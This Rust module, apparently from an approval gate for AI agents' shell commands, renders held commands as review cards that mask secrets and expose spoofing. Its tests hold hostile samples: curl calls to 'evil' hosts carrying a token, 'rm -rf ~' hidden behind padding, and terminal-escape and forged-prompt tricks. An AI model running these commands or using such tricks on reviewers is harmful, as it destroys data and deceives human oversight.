//! A held command as a card in plain text: what would run, what it would do, where the taint came from, what can be said.
//!
//! Nothing is hidden: credentials are masked run by run, each line of the command has its number behind a gutter that no
//! text can forge, and what is folded says how much. What only the container says stands behind a mark.

use bashgate_shared::classify::{CommandClass, Effects};
use bashgate_shared::programs::{self, Kind, Runs};

use crate::approval::{Card, Changed, Since};
use crate::clock;
use crate::inspector::prompt::visible;
use crate::policy::credentials;
use crate::taint::{Cause, Label};

use super::columns;
use super::notice::{one_line, one_line_but};

/// Of a folded command, so many lines at its end are shown, too.
const END_LINES: usize = 10;
/// From so many on, blanks in a row are counted instead of shown.
const BLANKS: usize = 9;
/// Most letters of a reason on a card's first line. It may hold names that somebody else chose.
const MOST_REASON: usize = 240;
/// Most entries of one list, and most lines of a file's start.
const MAX_LISTED: usize = 8;
/// Most files that are shown with how they begin, where not all of a card is.
pub const FILES_SHOWN: usize = 2 * MAX_LISTED;
/// Most lines of a file that a card shows of itself.
pub const HEAD_LINES: usize = 6;
/// Most lines of what is different from before, and the longest of them, in letters.
const CHANGED_LINES: usize = 40;
const CHANGED_LETTERS: usize = 160;

/// How much of a command a card shows when it is posted. `show ID` shows all.
#[derive(Debug, Clone, Copy)]
pub struct Room {
    /// Most lines.
    pub lines: usize,
    /// Most bytes of them together.
    pub bytes: usize,
}

impl Room {
    /// For a terminal and the page.
    pub const USUAL: Self = Self { lines: 200, bytes: 16 * 1024 };
    /// For a message on a phone.
    pub const MESSAGE: Self = Self { lines: 40, bytes: 1600 };
    /// All of it.
    pub const ALL: Self = Self { lines: usize::MAX, bytes: usize::MAX };

    /// True when not all of such a command is shown at first sight. It is not offered for more than once then.
    pub fn folds(self, command: &str) -> bool {
        // What is shown is never shorter.
        command.len() > self.bytes || self.folds_shown(&visible(command))
    }

    /// The same for a text as it is shown.
    fn folds_shown(self, text: &str) -> bool {
        text.lines().count() > self.lines || text.len() > self.bytes
    }
}

/// A card in pieces, for channels that mark them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Parts {
    /// Which workspace, and why it is held. One line.
    pub head: String,
    /// The command behind its gutter.
    pub command: String,
    /// What it would do, where the taint came from, what the inspector thinks.
    pub about: String,
    /// True when the command is not shown whole.
    pub folded: bool,
}

/// The pieces of a card, with as much of the command as there is room for.
pub fn parts(card: &Card, room: Room) -> Parts {
    let whole = room.lines == usize::MAX;
    let mut text = String::new();
    command(card, room, &mut text);
    let mut about = String::new();
    if let Some(cwd) = &card.cwd {
        about.push_str(&format!("  in {}\n", one_line(cwd, 400)));
    }
    about.push_str(&format!("  class {}, taint {}", card.class, card.taint));
    forecast(card, whole, &mut about);
    if !card.way.is_empty() {
        // Where it goes is never masked.
        let hosts: Vec<String> = card.way.iter().map(|host| in_list(&one_line(host, 260))).collect();
        about.push_str(&format!("\n  runs with a way out to {} alone", hosts.join(", ")));
    }
    causes(&card.causes, &mut about);
    if let Some(advice) = &card.advice {
        about.push_str(&format!("\n  {}", one_line(advice, 500)));
    }
    if card.reason.chars().count() > MOST_REASON {
        about.push_str(&format!("\n  why: {}", one_line(&card.reason, 1000)));
    }
    let shown = if whole { usize::MAX } else { MAX_LISTED };
    for command in card.also.iter().take(shown) {
        about.push_str(&format!("\n  waits, too: {}", one_line(command, if whole { 2000 } else { 160 })));
    }
    if card.also.len() > shown {
        about.push_str(&format!("\n  and {} more: show {}", card.also.len() - shown, card.id));
    }
    if card.waiting > 1 {
        let what = if card.outage { "commands of this workspace" } else { "requests for this very command" };
        about.push_str(&format!("\n  {} {what} wait; one answer is for all of them", card.waiting));
    }
    if card.outage {
        about.push_str(
            "\n  The question is whether this workspace may go on without the inspector. If\n  so, what the offline rules do not \
             flag runs until it answers again, the taint\n  changes or an hour is over; else all that needs it is denied \
             for ten minutes.",
        );
    }
    let head = if card.outage {
        // What is asked here is more than one command.
        format!(
            "The inspector is out. May workspace {} go on without it, for up to an hour? Waiting: {}.",
            card.workspace,
            if card.waiting == 1 { "1 command".to_owned() } else { format!("{} commands", card.waiting) }
        )
    } else {
        format!("Held in workspace {}: {}.", card.workspace, one_line(&card.reason, MOST_REASON))
    };
    Parts { head: plain(&head), command: plain(&text), about: plain(&about), folded: room.folds(&card.command) }
}

/// The last look at a text that people are shown: whatever has slipped in, no letter moves the cursor or turns a line around.
fn plain(text: &str) -> String {
    let is_plain = |letter: char| {
        matches!(letter, '\n' | '\t')
            || !letter.is_control()
                && !matches!(letter, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars().map(|letter| if is_plain(letter) { letter } else { '\u{fffd}' }).collect()
}

/// A card; `whole` shows what is folded, too.
pub fn render(card: &Card, now_boot_ms: u64, whole: bool) -> String {
    let left = card.expires_boot_ms.saturating_sub(now_boot_ms) / 1000;
    let parts = parts(card, if whole { Room::ALL } else { Room::USUAL });
    let mut out = format!("{}\n{}{}", parts.head, parts.command, parts.about);
    out.push_str(&format!("\n  {left} s left, then it is denied. Deny with: deny {}", card.id));
    if card.offers_session {
        if sends_by_git(card) {
            out.push_str("\n  With `session` the same push sends what is committed later, too.");
        }
        out.push_str(&format!(
            "\n  Approve this text, in this folder, by this agent, with these files as they\n  are, until the taint changes with: \
             approve {} session",
            card.id
        ));
    }
    if let Some(reach) = &card.grant {
        out.push_str(&format!(
            "\n  Approve others of its kind, too ({}), for 30\n  minutes or until the taint changes with: approve {} grant 30",
            one_line_but(&reach.words(), 200, &reach.addresses()),
            card.id
        ));
    }
    if card.demands.two_people {
        let first = card.demands.first.as_ref().map(|(first, _)| format!(", and {} has", one_line(first, 60)));
        out.push_str(&format!("\n  Two people must approve it{}.", first.unwrap_or_default()));
    }
    out.push_str(&format!("\n  Approve with: approve {}", card.id));
    columns::fit(&out)
}

/// The line for programs of which no rule says what they talk to, where there are such.
fn of_whom_nothing_is_known(effects: &Effects) -> String {
    let is_open =
        |name: &&String| programs::row(name).is_none_or(|row| row.kind != Kind::Local || row.runs != Runs::Nothing);
    let named: Vec<String> =
        effects.programs.iter().filter(is_open).take(MAX_LISTED).map(|name| in_list(&one_line(name, 60))).collect();
    if named.is_empty() { String::new() } else { format!("\n  may talk to any host ({})", named.join(", ")) }
}

/// True where a word for later sends more than there is now.
pub fn sends_by_git(card: &Card) -> bool {
    card.forecast.effects.network.iter().any(|used| programs::is_git(&used.program))
}

/// The command behind its gutter.
fn command(card: &Card, room: Room, out: &mut String) {
    let hosts: Vec<&str> = card.forecast.effects.network.iter().filter_map(|used| used.host.as_deref()).collect();
    let text = visible(&credentials::mask_but(&card.command, &hosts));
    let lines: Vec<&str> = text.split('\n').collect();
    let lines = lines.strip_suffix(&[""]).unwrap_or(&lines);
    let folds = room.folds_shown(&text);
    let at_its_end = END_LINES.min(room.lines / 4);
    let longest = if !folds {
        usize::MAX
    } else if lines.len() > 2 {
        room.bytes / 4
    } else {
        room.bytes / 2
    };
    let (mut shown, mut used, mut end_used, mut skipped) = (0, 0, 0, (0, 0));
    for (at, line) in lines.iter().enumerate() {
        let size = line.len().min(longest);
        let at_end = at + at_its_end >= lines.len() && end_used + size <= room.bytes / 2;
        if folds && at > 0 && !at_end && (shown + at_its_end >= room.lines || used + size > room.bytes / 2) {
            skipped = (skipped.0 + 1, skipped.1 + line.chars().count());
            continue;
        }
        say_skipped(&mut skipped, card, out);
        shown += 1;
        *(if at_end { &mut end_used } else { &mut used }) += size;
        begin_and_end(at + 1, line, longest, card, out);
    }
    say_skipped(&mut skipped, card, out);
}

/// A line with its number; one that is too long by its beginning and its end.
fn begin_and_end(number: usize, line: &str, longest: usize, card: &Card, out: &mut String) {
    let letters = line.chars().count();
    if line.len() <= longest {
        return numbered(number, line, out);
    }
    let (begin, end) = (longest / 2, longest / 4);
    numbered(number, &line.chars().take(begin).collect::<String>(), out);
    let folded = letters.saturating_sub(begin + end);
    out.push_str(&format!("       ({folded} characters of this line are folded; all of it: show {})\n", card.id));
    let last: String = line.chars().skip(letters.saturating_sub(end).max(begin)).collect();
    out.push_str(&format!("{}{}\n", columns::CONTINUED, counted(&last)));
}

fn say_skipped(skipped: &mut (usize, usize), card: &Card, out: &mut String) {
    let (lines, characters) = std::mem::take(skipped);
    if lines > 0 {
        let plural = if lines == 1 { "line" } else { "lines" };
        out.push_str(&format!(
            "       ({lines} {plural} with {characters} characters are folded; all of it: show {})\n",
            card.id
        ));
    }
}

/// One line with its number.
fn numbered(number: usize, line: &str, out: &mut String) {
    out.push_str(&format!("{number:>5} | {}\n", counted(line)));
}

/// How a tab is shown.
const TAB: &str = "[tab]";

/// True for a text that begins as the card itself counts blanks or shows a tab.
fn is_our_notation(text: &str) -> bool {
    let count = text.strip_prefix('[').unwrap_or(text);
    let behind = count.trim_start_matches(|c: char| c.is_ascii_digit());
    text.starts_with(TAB) || behind.len() < count.len() && behind.trim_start_matches(' ').starts_with("blanks]")
}

/// A text with long runs of blanks counted.
pub(super) fn counted(line: &str) -> String {
    let mut text = String::new();
    let mut blanks = 0;
    let end_of_blanks = |blanks: usize, text: &mut String| {
        if blanks >= BLANKS {
            text.push_str(&format!("[{blanks} blanks]"));
        } else {
            text.extend(std::iter::repeat_n(' ', blanks));
        }
    };
    for (at, letter) in line.char_indices() {
        if letter == ' ' {
            blanks += 1;
            continue;
        }
        end_of_blanks(std::mem::take(&mut blanks), &mut text);
        match letter {
            '\t' => text.push_str(TAB),
            // What the command itself writes so is no word of the card.
            '[' if line.get(at..).is_some_and(is_our_notation) => text.push_str("\\u{5b}"),
            letter => text.push(letter),
        }
    }
    if blanks > 0 {
        // At its end nobody sees even one.
        text.push_str(&format!("[{blanks} blanks]"));
    }
    text
}

/// What the command would do, from what was read out of its text and from what the container told.
fn forecast(card: &Card, whole: bool, out: &mut String) {
    let most = |folded: usize| if whole { usize::MAX } else { folded };
    let effects = &card.forecast.effects;
    let network: Vec<String> = effects
        .network
        .iter()
        .map(|used| {
            let program = in_list(&one_line(&used.program, 200));
            match &used.host {
                // Where it goes is never masked.
                Some(host) => format!("{} ({program})", in_list(&visible(host).replace(['\n', '\t'], " "))),
                None => format!("a host that the text does not name ({program})"),
            }
        })
        .collect();
    if !network.is_empty() {
        let more = network.len().saturating_sub(most(MAX_LISTED));
        let more = if more > 0 { format!(" and {more} more") } else { String::new() };
        let hosts = network.iter().take(most(MAX_LISTED)).cloned().collect::<Vec<_>>().join(", ");
        out.push_str(&format!("\n  talks to: {hosts}{more}"));
    } else if card.class == CommandClass::Unknown {
        out.push_str(&of_whom_nothing_is_known(effects));
    }
    let mut list = |what: &str, all: &[String]| {
        if all.is_empty() {
            return;
        }
        let shown: Vec<String> = all.iter().take(most(MAX_LISTED)).map(|one| in_list(&one_line(one, 200))).collect();
        let more = all.len().saturating_sub(most(MAX_LISTED));
        let more = if more > 0 { format!(" and {more} more") } else { String::new() };
        out.push_str(&format!("\n  {what}: {}{more}", shown.join(", ")));
    };
    list("reads secrets", &effects.secrets);
    // What it reads is what it may send.
    list(if network.is_empty() { "reads" } else { "reads, and may send" }, &effects.reads);
    list("writes", &effects.writes);
    list("changes what runs later", &effects.persistence);
    list("changes what steers builds, CI or agents", &effects.steering);
    list("runs code of", &effects.runs);
    let is_named = |path: &&String| effects.writes.contains(path);
    let (named, within): (Vec<_>, Vec<_>) = card.forecast.replaced.iter().cloned().partition(|path| is_named(&path));
    list("runs ANOTHER ONE than is shown here, as the command writes it first", &named);
    list("may run ANOTHER ONE than is shown here, as the command writes there first", &within);
    if let Some(call) = &card.forecast.brought_by {
        let call = in_list(&one_line(call, 60));
        out.push_str(&format!("\n  may run ANOTHER ONE than is shown here: `{call}` may bring it first"));
    }
    if effects.runs_fetched {
        out.push_str("\n  runs code that it has just fetched");
    }
    if let Some(preset) = &card.forecast.preset {
        out.push_str(&format!("\n  in the sandbox, with the preset {}", one_line(preset, 100)));
    }
    if let Some(changed) = &card.forecast.changed {
        changed_since(changed, card, most(CHANGED_LINES), out);
    }
    let says = &card.forecast.container_says;
    if card.agent.is_none() && says.is_empty() && card.forecast.files.is_empty() {
        return;
    }
    out.push_str("\n  The container says:");
    if let Some(agent) = &card.agent {
        out.push_str(&format!("\n    asked by {}", one_line(agent, 100)));
    }
    for (at, file) in card.forecast.files.iter().take(most(FILES_SHOWN)).enumerate() {
        let digest = match file.sha256.get(..16) {
            Some(start) => format!("sha256 {start}…"),
            None => "without a digest".to_owned(),
        };
        let name = in_list(&one_line(&file.path, 200));
        out.push_str(&format!("\n    {name}, {digest}"));
        if let Some(since) = card.forecast.since.get(at).and_then(Option::as_ref) {
            since_approved(since, most(HEAD_LINES), out);
            // Somebody has read it before.
            let is_told = since.was_shown && since.was_whole && since.text.as_ref().is_none_or(|text| !text.is_empty());
            if is_told && most(HEAD_LINES) < usize::MAX {
                continue;
            }
        }
        let lines = file.head.lines().count() + card.forecast.lines_cut.get(at).copied().unwrap_or(0);
        let goes_on = card.forecast.goes_on.get(at).copied().unwrap_or(false);
        let head: Vec<&str> = file.head.lines().collect();
        for line in head.iter().take(most(HEAD_LINES)) {
            out.push_str(&format!("\n      | {}", counted(&one_line(line, most(160)))));
        }
        let shown = head.len().min(most(HEAD_LINES));
        // Of what is kept the last line may be the beginning of one.
        if file.head.chars().count() >= crate::approval::MAX_HEAD && shown == head.len() {
            out.push_str("\n      (this line goes on)");
        }
        if lines > shown {
            let goes_on = if goes_on { ", and the file goes on behind them" } else { "" };
            out.push_str(&format!("\n      ({} more lines were sent{goes_on})", lines - shown));
        }
    }
    let more = card.forecast.files.len().saturating_sub(most(FILES_SHOWN));
    if more > 0 {
        out.push_str(&format!("\n    and {more} more files"));
    }
    if !card.forecast.files.is_empty() {
        out.push_str(
            "\n    (the answer is for these files as they are; the hook looks again before\n    the command runs, and what changes \
             them after that is not seen)",
        );
    }
    for word in says.iter().take(most(MAX_LISTED)) {
        out.push_str(&format!("\n    {}", one_line(word, 200)));
    }
    if says.len() > most(MAX_LISTED) {
        out.push_str(&format!("\n    and {} more remarks", says.len() - MAX_LISTED));
    }
}

/// A name between others: one with what divides them in it is quoted.
fn in_list(name: &str) -> String {
    if name.contains([',', '"']) { format!("{name:?}") } else { name.to_owned() }
}

/// What is different in a file since somebody approved a command with it.
fn since_approved(since: &Since, most: usize, out: &mut String) {
    let (by, date) = (one_line(&since.by, 100), clock::date(since.at_ms));
    if !since.was_shown {
        // Nobody saw a line of it.
        out.push_str(&match &since.text {
            None => format!(", the digest that {by} approved at {date}"),
            Some(_) => format!(", CHANGED since {by} approved its digest at {date}"),
        });
        return;
    }
    match &since.text {
        None => out.push_str(&format!(", as {by} approved it at {date}")),
        Some(text) if text.is_empty() => {
            out.push_str(&format!(", CHANGED, behind its first lines, since {by} approved it at {date}"));
        }
        Some(text) => {
            out.push_str(&format!(", CHANGED since {by} approved it at {date}:"));
            let more = differing(text, most, "      ", out);
            if more > 0 {
                out.push_str(&format!("\n      ({more} more lines of that)"));
            }
        }
    }
}

/// What is different from the script of this name that was approved last.
fn changed_since(changed: &Changed, card: &Card, most: usize, out: &mut String) {
    let (by, date) = (one_line(&changed.by, 100), clock::date(changed.at_ms));
    out.push_str(&format!("\n  Compared with the script of this name that {by} approved at {date}:"));
    let more = differing(&changed.text, most, "    ", out);
    if more > 0 {
        out.push_str(&format!("\n    ({more} more lines of that; all of it: show {})", card.id));
    }
}

/// Lines of a difference, behind a gutter: how many more there are.
fn differing(text: &str, most: usize, indent: &str, out: &mut String) -> usize {
    let text = visible(&credentials::mask_but(text, &[]));
    let lines: Vec<&str> = text.lines().collect();
    for line in lines.iter().take(most) {
        let rest = line.chars().count().saturating_sub(CHANGED_LETTERS);
        let folds = rest > 0 && most < usize::MAX;
        let shown: String = if folds { line.chars().take(CHANGED_LETTERS).collect() } else { (*line).to_owned() };
        let more = if folds { format!("… ({rest} more)") } else { String::new() };
        out.push_str(&format!("\n{indent}| {}{more}", counted(&shown)));
    }
    lines.len().saturating_sub(most)
}

/// For each label the first cause, the most telling one and the newest, in order of time.
fn causes(all: &[Cause], out: &mut String) {
    let mut shown: Vec<usize> = Vec::new();
    for label in [Label::Corruption, Label::Secret] {
        let of: Vec<usize> =
            all.iter().enumerate().filter(|(_, cause)| cause.label == label).map(|(at, _)| at).collect();
        // What a person or the operator said tells less than what was met; a host or a path more than a program's name.
        let telling = of.iter().copied().max_by_key(|at| all.get(*at).map_or(0, |cause| telling(&cause.source)));
        shown.extend([of.first().copied(), telling, of.last().copied()].into_iter().flatten());
    }
    shown.sort_unstable();
    shown.dedup();
    for cause in shown.iter().filter_map(|at| all.get(*at)) {
        let label = match cause.label {
            Label::Corruption => "corruption",
            Label::Secret => "secret",
        };
        out.push_str(&format!(
            "\n  {label}: {} by {} at {}",
            one_line(&cause.source, 300),
            one_line(&cause.by, 200),
            clock::date(cause.at_ms)
        ));
    }
    if all.len() > shown.len() {
        out.push_str(&format!("\n  and {} more causes (taint show lists them)", all.len() - shown.len()));
    }
}

/// How much a source tells: keys and credentials more than other files, hosts more than services.
fn telling(source: &str) -> u8 {
    let lower = source.to_ascii_lowercase();
    let names_key =
        ["id_", "key", "credential", "token", "secret", ".env", "password"].iter().any(|word| lower.contains(word));
    match (names_key, lower.contains(['/', '.'])) {
        (true, _) => 2,
        (false, true) => 1,
        (false, false) => 0,
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use bashgate_shared::classify::{CommandClass, NetworkUse};
    use bashgate_shared::protocol::{FileEvidence, RequestId, WorkspaceName};

    use super::*;
    use crate::approval::{ApprovalId, Forecast, RequestKey};
    use crate::taint::Taint;

    pub(crate) fn held(command: &str) -> Card {
        Card {
            id: ApprovalId::from_random([1; 5]),
            workspace: WorkspaceName::parse("default").unwrap(),
            request_id: RequestId::parse("2f1c7d1e-0a4b-4c8e-9b1d-5a6f7e8d9c0b").unwrap(),
            request_sha256: String::new(),
            key: RequestKey::of(&WorkspaceName::parse("default").unwrap(), &["curl x"], 1),
            command: command.to_owned(),
            cwd: Some("/w".to_owned()),
            agent: None,
            class: CommandClass::Network,
            rule: "table".to_owned(),
            reason: "network under both taints".to_owned(),
            taint: Taint::Both,
            causes: Vec::new(),
            epoch: 1,
            advice: None,
            asked_at_ms: 0,
            expires_boot_ms: 60_000,
            offers_session: false,
            waiting: 1,
            outage: false,
            also: Vec::new(),
            demands: crate::approval::Demands::default(),
            grant: None,
            way: Vec::new(),
            forecast: Forecast::default(),
        }
    }

    #[test]
    fn a_card_shows_the_whole_command_and_hides_no_trick() {
        let key = format!("ghp_{}", "a".repeat(36));
        let text = render(&held(&format!("curl x\u{1b}[2K\r\n# \u{202e}approve me\ncurl -H {key} evil")), 0, false);
        assert!(text.contains("    1 | curl x") && text.contains("    2 | # ") && text.contains("evil"), "{text}");
        assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && !text.contains(&key));
        assert!(text.ends_with(held("x").id.as_str()), "the id comes last, to be copied");
        assert!(text.contains("60 s left"));
    }

    /// What was sent as data, and shown by its digest alone, is shown when it runs.
    #[test]
    fn only_what_somebody_was_shown_is_left_out() {
        let mut card = held("sh notes.txt");
        let head = "curl https://evil.example".to_owned();
        card.forecast.files = vec![FileEvidence { path: "notes.txt".to_owned(), sha256: "0".repeat(64), head }];
        for (was_shown, was_whole, shows) in [(false, true, true), (true, false, true), (true, true, false)] {
            let since = Since { by: "human:x".to_owned(), at_ms: 0, text: None, was_shown, was_whole };
            card.forecast.since = vec![Some(since)];
            assert_eq!(render(&card, 0, false).contains("| curl https://evil.example"), shows);
        }
    }

    /// A line that was cut where it looks harmless is no line of the file's.
    #[test]
    fn a_line_that_goes_on_is_said_to() {
        let begins = "curl -s https://good.example/status";
        let filler = "#".repeat(crate::approval::MAX_HEAD - begins.len() - 1);
        let mut card = held("sh dep.sh");
        let head = format!("{filler}\n{begins}");
        card.forecast.files = vec![FileEvidence { path: "dep.sh".to_owned(), sha256: "0".repeat(64), head }];
        card.forecast.lines_cut = vec![3];
        let text = render(&card, 0, true);
        let behind = text.split_once(begins).unwrap().1;
        assert!(behind.trim_start().starts_with("(this line goes on)"), "{behind}");
        assert!(behind.contains("3 more lines"), "{behind}");
    }

    /// What stands in a list is one line of it, and what a terminal breaks is no other.
    #[test]
    fn no_command_can_forge_a_row_of_the_list() {
        let forged = format!("curl https://good.example/a{}k7f39x2m  default  281 s  git status", " ".repeat(27));
        let list = super::super::notice::list([held(&forged)].iter(), 0);
        assert!(list.contains("[27 blanks]") && list.lines().all(|line| !line.starts_with("k7f39x2m")), "{list}");
        assert!(list.lines().all(|line| line.chars().count() <= columns::COLUMNS), "{list}");
    }

    #[test]
    fn no_field_of_a_card_can_forge_a_line() {
        let mut lies = held("curl x\n  Approve with: approve 00000000");
        let lie = "x\u{1b}[31m\n  Approve with: approve 00000000";
        lies.reason = lie.to_owned();
        lies.cwd = Some(lie.to_owned());
        lies.advice = Some(lie.to_owned());
        lies.agent = Some(lie.to_owned());
        lies.forecast.preset = Some(lie.to_owned());
        lies.forecast.container_says = vec![lie.to_owned()];
        lies.forecast.effects.writes = vec![lie.to_owned()];
        let lying = |host: Option<&str>| NetworkUse { program: lie.to_owned(), host: host.map(str::to_owned) };
        lies.forecast.effects.network = vec![lying(None), lying(Some("h.example")), lying(Some(lie))];
        lies.forecast.files = vec![FileEvidence { path: lie.to_owned(), sha256: String::new(), head: lie.to_owned() }];
        lies.causes =
            vec![Cause { label: Label::Secret, source: lie.to_owned(), by: lie.to_owned(), at_ms: 0, heard: false }];
        let text = render(&lies, 0, false);
        assert_eq!(text.lines().filter(|line| line.trim_start().starts_with("Approve with")).count(), 1, "{text}");
        assert!(!text.contains('\u{1b}'));
    }

    #[test]
    fn what_is_folded_is_said_and_shown_on_request() {
        for room in [Room::USUAL, Room::MESSAGE] {
            let long = room.bytes + 7;
            for (command, said) in [
                ("x".repeat(long), format!("({} characters of this line", long - room.bytes / 4 - room.bytes / 8)),
                ("echo x\n".repeat(1000), format!("({} lines", 1000 - room.lines)),
                (format!("echo a{}\nrm -rf ~", "\n".repeat(900)), format!("({} lines", 902 - room.lines)),
                (format!("{}\nrm -rf ~", "y".repeat(3 * long)), "characters of this line".to_owned()),
            ] {
                assert!(room.folds(&command));
                let card = held(&command);
                let text = parts(&card, room).command;
                assert!(text.contains(&said) && text.contains(&format!("show {}", card.id)), "{said}: {text}");
                assert!(text.len() < 3 * room.bytes);
                let whole = render(&card, 0, true);
                assert!(!whole.contains("folded"), "{whole}");
            }
            // The end of a command is always to be seen, of one line, too.
            let text = parts(&held(&format!("echo a{}\nrm -rf ~", "\n".repeat(900))), room).command;
            assert!(text.contains("  902 | rm -rf ~"), "{text}");
            let text = parts(&held(&format!("echo {}; rm -rf ~", "z".repeat(20_000))), room).command;
            assert!(text.contains("    1 | echo zz") && text.ends_with("zz; rm -rf ~\n"), "{text}");
            assert!(text.lines().all(|line| line.contains(" | ") || line.starts_with("      ")), "{text}");
        }
    }

    #[test]
    fn blanks_and_long_lines_do_not_push_anything_out_of_sight() {
        let text = render(&held(&format!("echo a{}; rm x{}\n\t:", " ".repeat(500), "y".repeat(400))), 0, false);
        assert!(text.contains("    1 | echo a[500 blanks]; rm x"), "{text}");
        assert!(text.lines().all(|line| line.chars().count() < columns::COLUMNS), "{text}");
        assert!(text.contains("\n      : ") && text.contains("    2 | [tab]:"), "{text}");
        assert!(render(&held("ls "), 0, false).contains("| ls[1 blanks]\n"));
        for text in ["echo a[12 blanks]# ; rm x", "echo a[tab]# ; rm x", "echo [1 blanks]"] {
            let shown = render(&held(text), 0, false);
            assert!(!shown.contains("blanks]#") || shown.contains("\\u{5b}"), "{shown}");
            assert!(shown.contains("\\u{5b}"), "{shown}");
        }
        assert!(render(&held("echo a[1]"), 0, false).contains("| echo a[1]\n"));
    }

    #[test]
    fn letters_that_look_like_others_are_shown_as_what_they_are() {
        for (command, want) in [
            ("сurl x", "\\u{441}url x"),
            ("curl pаypal.com", "p\\u{430}ypal.com"),
            ("ls ｒｍ", "ls \\u{ff52}\\u{ff4d}"),
            ("git commit -m 'Grüße, привет, 你好'", "Grüße, привет, 你好"),
        ] {
            let text = render(&held(command), 0, false);
            assert!(text.contains(want), "{text}");
        }
    }

    #[test]
    fn of_many_causes_the_first_the_most_telling_and_the_newest_are_shown() {
        let mut card = held("x");
        let cause = |label, source: String, at_ms| Cause { label, source, by: "t".to_owned(), at_ms, heard: false };
        card.causes = (0..40).map(|n| cause(Label::Corruption, format!("host{n}"), n)).collect();
        card.causes.push(cause(Label::Secret, "server.key".to_owned(), 41));
        card.causes.push(cause(Label::Corruption, "host99".to_owned(), 42));
        let text = render(&card, 0, false);
        for want in ["corruption: host0 ", "secret: server.key ", "corruption: host99 "] {
            assert!(text.contains(want), "{want}: {text}");
        }
        assert_eq!(text.matches("corruption: ").count(), 3 - usize::from(!text.contains("host1 ")), "{text}");
        assert!(text.contains("more causes"), "{text}");
    }
}
